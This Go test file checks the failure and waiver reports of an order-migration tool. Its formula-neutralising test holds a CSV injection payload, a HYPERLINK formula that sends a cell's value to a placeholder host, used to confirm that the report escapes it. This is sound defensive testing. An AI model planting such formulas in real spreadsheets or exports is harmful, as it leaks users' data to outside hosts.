package report

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/migrate-tool/migrate/executor"
	"github.com/migrate-tool/migrate/executor/executortest"
	"github.com/migrate-tool/migrate/journal"
	"github.com/migrate-tool/migrate/resolve"
	"github.com/migrate-tool/migrate/sandbox"
)

// TestReportKeepsEveryRowOfAGroup: a grouped order that failed comes back
// in the report with every one of its rows, each with its own problems,
// however many rows the run read after them (the ring of 4,096 rows the
// report used to look rows up in had dropped them by then): one refused
// by the server after its order was created, one rejected before anything
// was sent.
func TestReportKeepsEveryRowOfAGroup(t *testing.T) {
	t.Parallel()
	tg := executortest.NewTarget(t, sandbox.Options{})
	var orders []string
	// A1, 40 lines: its 17th names a part that does not exist.
	for i := 0; i < 40; i++ {
		p := []string{"P1", "P2"}[i%2]
		if i == 16 {
			p = "P9"
		}
		orders = append(orders, fmt.Sprintf("A1,C1,%s,1", p))
	}
	// B1: its second line's quantity is not a number.
	for _, q := range []string{"1", "x", "2"} {
		orders = append(orders, fmt.Sprintf("B1,C1,P2,%s", q))
	}
	for i := 0; i < 5000; i++ {
		orders = append(orders, fmt.Sprintf("Z%d,skip,P1,1", i))
	}
	o, sum := tg.Load(t, ordersFiles(2, true, orders...))
	// What exists: A1 with its 39 good lines, numbered by the server.
	a1 := tg.Entities("ORDERS", "DETAILS")["A1"]
	if n := len(executortest.Lines(a1, "ORDERITEMS_SUBFORM")); a1 == nil || n != 39 {
		t.Fatalf("A1 %v with %d lines", a1, n)
	}
	partly := fmt.Sprintf("ORDERS('%s') created with 39 of 40 lines", a1["ORDNAME"])
	if s := stepOf(sum, "orders"); s.Failed != 2 || s.Skipped != 5000 || s.Partly != 1 {
		t.Fatalf("orders %+v", s)
	}
	// A1 is partly loaded: its order and three lines exist; B1 is not.
	for _, e := range sum.Errors {
		if want := map[string]string{"A1": partly}[e.Record]; e.Partly != want {
			t.Errorf("%s: partly %q, want %q", e.Record, e.Partly, want)
		}
	}
	if st, err := executor.Status(o.Journal); err != nil || stepOf(st, "orders").Partly != 1 {
		t.Errorf("status: %v %+v", err, st)
	}
	out := filepath.Join(t.TempDir(), "failed.csv")
	n, _, err := Report(o.Journal, out)
	if err != nil || n != 43 {
		t.Fatalf("report: %d rows, %v", n, err)
	}
	got := readCSV(t, out)
	want := [][]string{
		{"OrderNo", "Customer", "Part", "Qty", "step", "location", "field", "message"},
		{"B1", "C1", "P2", "1", "orders", "orders.csv:42", "", "same record (B1) as orders.csv:43: "},
		{"B1", "C1", "P2", "x", "orders", "orders.csv:43", "TQUANT", `"x" is not a decimal`},
		{"B1", "C1", "P2", "2", "orders", "orders.csv:44", "", "same record (B1) as orders.csv:43: "},
	}
	for i := 0; i < 40; i++ {
		w := []string{"A1", "C1", []string{"P1", "P2"}[i%2], "1", "orders", fmt.Sprintf("orders.csv:%d", i+2), "", "same record (A1) as orders.csv:18: partly loaded"}
		if i == 16 {
			w[2], w[6], w[7] = "P9", "ORDERITEMS_SUBFORM", "partly loaded ("+partly+`): ORDERITEMS_SUBFORM: Line 1- PARTNAME "P9" does not exist`
		}
		want = append(want, w)
	}
	if len(got) != len(want) {
		t.Fatalf("report:\n%q", got)
	}
	for i := range want {
		// The messages are the server's and the converter's, and the field
		// is followed by where the plan writes it: the start of each is
		// compared.
		w, g := want[i], got[i]
		if strings.Join(g[:6], ",") != strings.Join(w[:6], ",") || !strings.HasPrefix(g[6], w[6]) || !strings.HasPrefix(g[7], w[7]) {
			t.Errorf("report line %d:\n got %q\nwant %q", i, g, w)
		}
	}
}

// TestReportLines: how a failed record's problems are placed on its rows.
func TestReportLines(t *testing.T) {
	t.Parallel()
	hdr := []string{"Order", "Part"}
	r := func(loc string, cells ...string) journal.Row { return journal.Row{Header: hdr, Cells: cells, Loc: loc} }
	one := r("o.csv:2", "SO1", "P1")
	for _, tc := range []struct {
		name string
		rec  journal.RecordState
		want []string // location | field | message, one per line
	}{{
		name: "one row, every problem on it",
		rec: journal.RecordState{ID: "SO1", Loc: "o.csv:2", Row: &one, Errors: []journal.Problem{
			{Cell: "o.csv:2", Field: "PARTNAME", Plan: "p.yaml:9:7", Message: "no such part"}, {Cell: "o.csv:2", Message: "and more"}}},
		want: []string{"o.csv:2|PARTNAME (p.yaml:9:7)|no such part; and more"},
	}, {
		name: "a group from a workbook: the cell's row gets it",
		rec: journal.RecordState{ID: "SO1", Loc: "o.xlsx!Lines!2", Rows: []journal.Row{
			r("o.xlsx!Lines!2", "SO1", "P1"), r("o.xlsx!Lines!3", "SO1", "P9"), r("o.xlsx!Lines!4", "SO1", "P2")},
			Errors: []journal.Problem{{Cell: "o.xlsx!Lines!B3", Field: "PARTNAME", Message: "no such part"}}},
		want: []string{
			"o.xlsx!Lines!2||same record (SO1) as o.xlsx!Lines!B3: no such part",
			"o.xlsx!Lines!B3|PARTNAME|no such part",
			"o.xlsx!Lines!4||same record (SO1) as o.xlsx!Lines!B3: no such part"},
	}, {
		name: "a problem of no row goes on the first; partly loaded is said first",
		rec: journal.RecordState{ID: "SO1", Loc: "o.csv:2", Partly: "ORDERS('SO1') created with 1 of 2 lines",
			Rows:   []journal.Row{r("o.csv:2", "SO1", "P1"), r("o.csv:3", "SO1", "P9")},
			Errors: []journal.Problem{{Cell: "", Message: "refused"}, {Cell: "o.csv:3", Field: "PARTNAME", Message: "no such part"}}},
		want: []string{
			"o.csv:2||partly loaded (ORDERS('SO1') created with 1 of 2 lines): refused",
			"o.csv:3|PARTNAME|partly loaded (ORDERS('SO1') created with 1 of 2 lines): no such part"},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, l := range reportLines(&tc.rec) {
				got = append(got, l.loc+"|"+l.field+"|"+l.msg)
			}
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
				t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(tc.want, "\n"))
			}
		})
	}
}

// A problem's cell is read by the one grammar of places (diag.ParseRange):
// a workbook cell gives its row, anything else stays as it is.
func TestRowOfCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"book.xlsx!Orders!C17":     "book.xlsx!Orders!17",
		"book.xlsx!My Sheet!AB3":   "book.xlsx!My Sheet!3",
		"book.xlsx!Orders!17":      "book.xlsx!Orders!17",
		"orders.csv:17":            "orders.csv:17",
		"template:FAMILY_LOG('1')": "template:FAMILY_LOG('1')",
	} {
		if got := rowOfCell(in); got != want {
			t.Errorf("rowOfCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// A failed row whose cells look like formulas comes back in the CSV report
// with a leading apostrophe, so that opening the report runs nothing.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	tg := executortest.NewTarget(t, sandbox.Options{})
	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
	o, _ := tg.Load(t, ordersFiles(3, false, `O1,C1,"`+strings.ReplaceAll(evil, `"`, `""`)+`",1`))
	out := filepath.Join(t.TempDir(), "failed.csv")
	if n, _, err := Report(o.Journal, out); err != nil || n != 1 {
		t.Fatalf("report %d %v", n, err)
	}
	rows := readCSV(t, out)
	if rows[1][2] != "'"+evil {
		t.Errorf("the formula cell came back as %q", rows[1][2])
	}
}

// A waived record: the run report counts it and gives the reason; the
// failed rows' file lists its row, waived.
func TestReportOfAWaivedRecord(t *testing.T) {
	t.Parallel()
	tg := executortest.NewTarget(t, sandbox.Options{})
	o, sum := tg.Load(t, ordersFiles(3, false, "O1,C1,P1,1", "O2,C1,P2,x"))
	if sum.Complete || stepOf(sum, "orders").Failed != 1 {
		t.Fatalf("apply: %+v", sum)
	}
	if _, err := resolve.Waive(o.Journal, []executor.RecordRef{{Step: "orders", Record: "O2"}}, "the export's total line"); err != nil {
		t.Fatal(err)
	}
	rep, err := RunReportOf(o.Journal)
	if err != nil || !rep.Complete || rep.Total.Waived != 1 || len(rep.Waived) != 1 {
		t.Fatalf("run report: %v %+v", err, rep)
	}
	page := pageOf(t, rep)
	for _, want := range []string{"every record is committed or skipped, 1 waived", `<th class="n">Waived</th>`, "the export&#39;s total line", `<table id="waived">`} {
		if !strings.Contains(string(page), want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	out := filepath.Join(t.TempDir(), "failed.csv")
	if n, waived, err := Report(o.Journal, out); err != nil || n != 1 || waived != 1 {
		t.Fatalf("report --out: %d rows, %d waived, %v", n, waived, err)
	}
	if rows := readCSV(t, out); len(rows) != 2 || !strings.HasPrefix(rows[1][7], "waived: the export's total line (was: ") {
		t.Errorf("report --out: %q", rows)
	}
}
